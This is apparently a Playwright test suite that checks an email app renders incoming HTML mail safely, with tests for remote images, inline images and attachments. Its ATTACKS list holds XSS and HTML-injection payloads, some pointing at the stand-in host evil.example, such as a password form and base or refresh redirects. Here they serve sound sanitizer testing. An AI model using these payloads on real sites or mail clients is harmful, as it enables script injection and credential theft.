import type { Locator, Page } from '@playwright/test';
import type { SendMailOptions } from 'nodemailer';
import type { TestApp } from '#tests/app/app.ts';
import { sendMail } from '#tests/fixtures/factories.ts';
import { composed, png } from '#tests/fixtures/mails-with-files.ts';
import { expect, expectAccessible, test } from '../fixtures/fixtures.ts';

type Colleague = { email: string; intakeEmail: string };

async function opened(
  { app, page, signedUp }: { app: TestApp; page: Page; signedUp: Colleague },
  fields: SendMailOptions,
): Promise<Locator> {
  const { email: from, intakeEmail: to } = signedUp;
  await sendMail(app, { from, to, raw: await composed({ from, to, ...fields }) });
  const card = page.getByRole('article');
  await expect(card).toBeVisible();
  await card.getByRole('button', { expanded: false }).first().click();
  return card;
}

async function asSent(card: Locator): Promise<ReturnType<Locator['frameLocator']>> {
  await card.getByRole('button', { name: 'As sent' }).click();
  const frame = card.frameLocator('iframe');
  await expect(frame.locator('body *').first()).toBeAttached();
  return frame;
}

/** Harm is detected by `harm()` and requests to `evil.example`. */
const ATTACKS: [string, string][] = [
  ['a script', '<script>top.harm("script")</script>'],
  [
    'an image that fails',
    '<img src=x onerror="top.harm(1)"><img src="data:," onerror=top.harm(2)>',
  ],
  [
    'a link to JavaScript',
    '<a href="javascript:top.harm(3)">click</a><a href=" java&#10;script:top.harm(4)">click</a>',
  ],
  ['a link to data', '<a href="data:text/html,<script>top.harm(5)</script>">click</a>'],
  [
    'SVG',
    '<svg onload="top.harm(6)"><script>top.harm(7)</script><a xlink:href="javascript:top.harm(8)"><text>click</text></a></svg>',
  ],
  [
    'MathML',
    '<math><mtext><mglyph><style><img src onerror=top.harm(9)></style></mglyph></mtext></math>',
  ],
  [
    'a style that runs',
    '<div style="width:expression(top.harm(10));behavior:url(//evil.example/x);-moz-binding:url(//evil.example/y)">x</div>',
  ],
  [
    'a style sheet from elsewhere',
    '<style>@import "https://evil.example/a.css"; p{background:url(https://evil.example/b.png)}</style><link rel=stylesheet href="https://evil.example/c.css"><p>x</p>',
  ],
  ['a page that moves on', '<meta http-equiv=refresh content="0;url=https://evil.example/">'],
  [
    'a base',
    '<base href="https://evil.example/"><img src="relative.png"><a href="relative">click</a>',
  ],
  [
    'a form',
    '<form action="https://evil.example/"><input name=password autofocus onfocus="top.harm(11)"><button formaction="javascript:top.harm(12)">Go</button></form>',
  ],
  [
    'a frame',
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>top.harm(13)</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  ],
  [
    'a body that loads',
    '<body onload="top.harm(14)" background="https://evil.example/bg.png"><p>x</p>',
  ],
  [
    'media',
    '<video src="https://evil.example/v" poster="https://evil.example/p" onerror="top.harm(15)"></video><picture><source srcset="https://evil.example/s"><img srcset="https://evil.example/t 2x"></picture>',
  ],
  [
    'markup that changes its meaning',
    '<noscript><p title="</noscript><img src=x onerror=top.harm(16)>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=top.harm(17)></style></mglyph></form></mtext></math>',
  ],
  [
    'markup in a comment',
    '<!--><img src=x onerror=top.harm(18)>--><![CDATA[><img src=x onerror=top.harm(19)>]]>',
  ],
  [
    'names that the page asks for',
    '<img name="documentElement"><form name="body"></form><a id="contentDocument" name="defaultView">x</a>',
  ],
];

test.describe('an original mail is shown safely', () => {
  for (const [name, html] of ATTACKS) {
    test(`with ${name}`, async ({ app, page, signedUp, context }) => {
      const harm: string[] = [];
      const asked: string[] = [];
      await page.exposeFunction('harm', (what: unknown) => harm.push(String(what)));
      page.on('dialog', (dialog) => harm.push(dialog.message()));
      await context.route('**/*', (route) => {
        const address = new URL(route.request().url());
        if (address.host === new URL(app.url).host) return route.continue();
        asked.push(address.href);
        return route.abort();
      });
      const card = await opened(
        { app, page, signedUp },
        {
          subject: 'Attack',
          text: 'Text',
          html: `<p class="first">Before</p>${html}<p>After</p>`,
        },
      );
      const frame = await asSent(card);
      await expect(frame.locator('.first')).toHaveText('Before');
      const remote = card.getByRole('button', { name: 'Show remote images' });
      const found = await frame.locator('html').evaluate((root) => ({
        tags: [
          ...root.querySelectorAll(
            'script,svg,math,base,meta,link,form,input,button,iframe,object,embed,video,source',
          ),
        ].map(({ outerHTML }) => outerHTML),
        handlers: [root, ...root.querySelectorAll('*')].flatMap((element) =>
          [...element.attributes]
            .filter(({ name }) => name.startsWith('on'))
            .map(({ name }) => name),
        ),
        links: [...root.querySelectorAll('[href]')].map((link) => link.getAttribute('href')),
      }));
      expect(found).toEqual({ tags: [], handlers: [], links: [] });
      for (const link of await frame.getByText('click').all()) await link.click();
      expect(asked).toEqual([]);
      if (await remote.isVisible()) {
        await remote.click();
        await expect(frame.locator('.first')).toBeVisible();
      }
      expect(harm).toEqual([]);
      expect(asked.filter((address) => /\.css|\/[eosvxyp]$/.test(address))).toEqual([]);
      expect(page.url()).toBe(`${app.url}/dashboard`);
    });
  }
});

test('a mail is shown in original layout, with inline images, and links in a new window', async ({
  app,
  page,
  signedUp,
}) => {
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));
  const card = await opened(
    { app, page, signedUp },
    {
      subject: 'Numbers of May',
      html: `<html><head><style><!-- .loud { color: rgb(200, 0, 0) } --></style></head>
      <body bgcolor="#ffffee"><p class="loud">May was good.</p>
      <p style="font-size: 30px">Big</p><img src="cid:chart@x" width="200">
      <a href="https://shop.example/may?a=1">The shop</a></body></html>`,
      attachments: [{ filename: 'chart.png', cid: 'chart@x', content: png(400, 200) }],
    },
  );
  const frame = await asSent(card);
  await expect(frame.locator('.loud')).toHaveCSS('color', 'rgb(200, 0, 0)');
  await expect(frame.getByText('Big')).toHaveCSS('font-size', '30px');
  await expect(frame.locator('body')).toHaveCSS('background-color', 'rgb(255, 255, 238)');
  const image = frame.locator('img');
  await expect(image).toHaveJSProperty('naturalWidth', 400);
  const link = frame.getByRole('link', { name: 'The shop' });
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  await expect
    .poll(() => frame.locator('html').evaluate((root) => root.scrollHeight - root.clientHeight))
    .toBeLessThanOrEqual(0);
  // No scripts run in the mail frame; axe would wait in vain.
  await expectAccessible(page, { besides: ['iframe'] });
  await card.getByRole('button', { name: 'As sent' }).press('Enter');
  await expect(card.locator('iframe')).toHaveCount(0);
  expect(errors).toEqual([]);
});

test('external images load only on request', async ({ app, page, signedUp, context }) => {
  const asked: string[] = [];
  await context.route('https://images.example/**', (route) => {
    // Chromium sends a referer for images in styles, regardless of the referrer policy.
    const { referer } = route.request().headers();
    expect([undefined, `${app.url}/`]).toContain(referer);
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'image/png', body: png(50, 50) });
  });
  const card = await opened(
    { app, page, signedUp },
    {
      subject: 'Newsletter',
      html: '<p>News</p><img src="https://images.example/a.png" alt="A"><p style="background:url(https://images.example/b.png)">B</p>',
    },
  );
  const frame = await asSent(card);
  await expect(frame.getByText('News')).toBeVisible();
  await expect(card.getByRole('button', { name: 'Show remote images' })).toBeVisible();
  expect(asked).toEqual([]);
  await card.getByRole('button', { name: 'Show remote images' }).click();
  const image = card.frameLocator('iframe').locator('img');
  await expect(image).toHaveJSProperty('naturalWidth', 50);
  expect(asked.toSorted()).toEqual([
    'https://images.example/a.png',
    'https://images.example/b.png',
  ]);
  await expect(card.getByRole('button', { name: 'Show remote images' })).toHaveCount(0);
});

test('files are listed with size and saved under their name, images are shown inline', async ({
  app,
  page,
  signedUp,
}) => {
  const card = await opened(
    { app, page, signedUp },
    {
      subject: 'Crack in the wall of hall 2',
      text: 'The crack is here:\n[cid:crack@x]\nIt grows. [cid:logo@x]\n',
      html: '<p>The crack is here:</p><img src="cid:crack@x"><div class="gmail_signature"><img src="cid:logo@x"></div>',
      attachments: [
        { filename: 'crack.png', cid: 'crack@x', content: png(400, 300) },
        { filename: 'logo.png', cid: 'logo@x', content: png(80, 20) },
        { filename: 'wall.png', content: png(300, 300, 3) },
        { filename: 'Übersicht.pdf', content: Buffer.alloc(250_000, 'x') },
      ],
    },
  );
  await expect(card).toContainText(/3 files, \d+ KB/);
  const files = card.getByRole('list', { name: 'Files', exact: true });
  await expect(files.getByRole('listitem')).toHaveCount(3);
  await expect(files).toContainText('Übersicht.pdf244 KB');
  const saving = page.waitForEvent('download');
  await files.getByRole('link', { name: /Übersicht/ }).click();
  expect((await saving).suggestedFilename()).toBe('Übersicht.pdf');
  await expect(card.getByRole('list', { name: 'Images' }).getByRole('img')).toHaveCount(2);

  await card.getByRole('button', { name: 'Show original' }).click();
  const inText = card.getByText('The crack is here:').locator('..').getByRole('img');
  await expect(inText).toHaveCount(1);
  await expect(inText).toHaveJSProperty('naturalWidth', 400);
  await expect(card.getByText('It grows.').last()).not.toContainText('[cid:');
  await expect(card.getByRole('list', { name: 'Images' }).getByRole('img')).toHaveCount(1);

  await expect(card.getByText('logo.png')).toBeHidden();
  await card.getByText('1 hidden image').click();
  await expect(card.getByText('logo.png')).toBeVisible();
  await expect(card).toContainText('part of the signature');
  await expectAccessible(page);
});
